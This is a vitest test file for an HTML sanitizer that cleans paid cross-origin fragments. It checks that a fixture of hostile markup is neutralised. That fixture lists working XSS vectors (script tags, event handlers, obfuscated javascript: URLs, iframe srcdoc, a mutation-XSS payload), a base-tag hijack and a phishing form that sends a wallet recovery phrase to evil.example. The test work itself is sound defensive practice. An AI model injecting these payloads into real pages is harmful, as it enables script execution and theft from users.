// A paid fragment comes from another origin: whatever it carries, nothing in it may run in the content site.
import { afterEach, describe, expect, it } from "vitest";
import { createShadowMount } from "./createShadowMount.ts";
import { sanitizeFragment } from "./sanitizeFragment.ts";

declare global {
  interface Window {
    pwned?: string[];
  }
}

const receiver = "https://receiver.example/articles/7";

// Every way we know of to get script into a page through markup.
const hostile = `
  <h1>The paid part</h1>
  <p id="text">Worth every token.</p>
  <script>(window.pwned ??= []).push("script")</script>
  <img src="x" onerror="(window.pwned ??= []).push('onerror')" alt="broken on purpose">
  <a id="js-link" href="javascript:(window.pwned ??= []).push('javascript-link')">read more</a>
  <a id="js-entity" href="jav&#x09;ascript:(window.pwned ??= []).push('entity-link')">more</a>
  <svg><script>(window.pwned ??= []).push("svg-script")</script><circle onload="(window.pwned ??= []).push('svg')" /></svg>
  <iframe srcdoc="<script>parent.pwned = ['iframe']</script>"></iframe>
  <object data="javascript:(window.pwned ??= []).push('object')"></object>
  <embed src="javascript:(window.pwned ??= []).push('embed')">
  <form action="https://evil.example/steal"><input name="seed" placeholder="Your wallet's recovery phrase"><button>Go</button></form>
  <math><mtext><table><mglyph><style><img src=x onerror="(window.pwned ??= []).push('mxss')"></style></mglyph></table></mtext></math>
  <div style="background:url(javascript:alert(1))" onmouseover="(window.pwned ??= []).push('hover')">hover me</div>
  <base href="https://evil.example/">
  <a id="relative" href="/articles/8">next article</a>
  <img id="image" src="images/figure.png" alt="figure">
  <a id="new-window" href="https://elsewhere.example/" target="_blank">source</a>
  <svg><a id="svg-link" href="javascript:(window.pwned ??= []).push('svg-link')"><text>svg text</text></a></svg>
  <template><img src="x" onerror="(window.pwned ??= []).push('template')"></template>
  <noscript><p id="noscript">no script</p><img src="x" onerror="(window.pwned ??= []).push('noscript')"></noscript>
  <a id="data-link" href="data:text/html,<script>alert(1)</script>">data</a>
  <img id="data-image" src="data:image/svg+xml,<svg onload=alert(1)>" srcset="evil.png 2x" alt="data">
  <p><font color="red" id="unwrapped">kept as text</font><!-- a comment --></p>
  <details open><summary>Summary</summary>details</details>
  <textarea><img src=x onerror="(window.pwned ??= []).push('textarea')"></textarea>
  <table><tr><td colspan="2" onclick="(window.pwned ??= []).push('td')">cell</td></tr></table>
`;

afterEach(() => {
  delete window.pwned;
  document.body.replaceChildren();
});

function render(html: string) {
  const host = document.createElement("div");
  document.body.append(host);
  const { container } = createShadowMount(host);
  container.replaceChildren(sanitizeFragment(html, receiver));
  return container;
}

describe("sanitizeFragment", () => {
  it("keeps the content a reader came for", () => {
    const container = render(hostile);
    expect(container.querySelector("h1")?.textContent).toBe("The paid part");
    expect(container.querySelector("#text")?.textContent).toBe("Worth every token.");
  });

  it("runs nothing: no script, handler, script URL, frame, plugin, form, style or base survives, even when used", async () => {
    const container = render(hostile);
    // The links that were hostile are clicked (the good ones would navigate this test page away).
    for (const element of container.querySelectorAll<HTMLElement>("#js-link, #js-entity, div, img")) {
      element.click();
      element.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
    }
    // Give anything that was scheduled (image errors, frame loads) the chance to run before looking.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(window.pwned).toBeUndefined();
    expect(
      container.querySelector(
        "script, iframe, object, embed, form, input, button, base, svg, math, style, template, noscript, textarea, font",
      ),
    ).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith("on"), `${element.tagName} ${attribute.name}`).toBe(false);
        expect(attribute.name, element.tagName).not.toBe("style");
        expect(attribute.value.replace(/\s/g, "").toLowerCase()).not.toContain("javascript:");
      }
    }
  });

  it("keeps what is text for a reader, without the markup it is not allowed", () => {
    const container = render(hostile);
    expect(container.querySelector("p")?.parentElement).toBe(container);
    expect(container.textContent).toContain("kept as text");
    expect(container.querySelector("details")?.hasAttribute("open")).toBe(true);
    expect(container.querySelector("details summary")?.textContent).toBe("Summary");
    expect(container.querySelector("td")?.getAttribute("colspan")).toBe("2");
    // What comes from where nothing is read (SVG, a template, a fallback, a form control) is not shown either.
    expect(container.textContent).not.toContain("svg text");
    expect(container.querySelector("#noscript")).toBeNull();
  });

  it("keeps no URL but http(s) and mailto, and no srcset it could not resolve", () => {
    const container = render(hostile);
    expect(container.querySelector("#data-link")?.hasAttribute("href")).toBe(false);
    expect(container.querySelector("#data-image")?.hasAttribute("src")).toBe(false);
    expect(container.querySelector("#data-image")?.hasAttribute("srcset")).toBe(false);
    expect(container.querySelector("#svg-link")).toBeNull();
  });

  it("copies nodes into this page's document: the parsed one is never inserted", () => {
    const nodes = sanitizeFragment(hostile, receiver);
    for (const element of nodes.querySelectorAll("*")) expect(element.ownerDocument).toBe(document);
  });

  it("points relative links and images at the receiver, not at the content site", () => {
    const container = render(hostile);
    expect(container.querySelector("#relative")?.getAttribute("href")).toBe("https://receiver.example/articles/8");
    expect(container.querySelector("#image")?.getAttribute("src")).toBe(
      "https://receiver.example/articles/images/figure.png",
    );
  });

  it("opens no window that could reach back into this page", () => {
    const container = render(hostile);
    expect(container.querySelector("#new-window")?.getAttribute("href")).toBe("https://elsewhere.example/");
    expect(container.querySelector("#new-window")?.hasAttribute("target")).toBe(false);
  });

  it("takes a whole HTML document and keeps only its body's content", () => {
    const container = render(
      "<!doctype html><html><head><title>t</title><script>(window.pwned ??= []).push('head')</script></head><body><article><p>Body text</p></article></body></html>",
    );
    expect(container.querySelector("article p")?.textContent).toBe("Body text");
    expect(container.querySelector("title, script")).toBeNull();
    expect(window.pwned).toBeUndefined();
  });
});
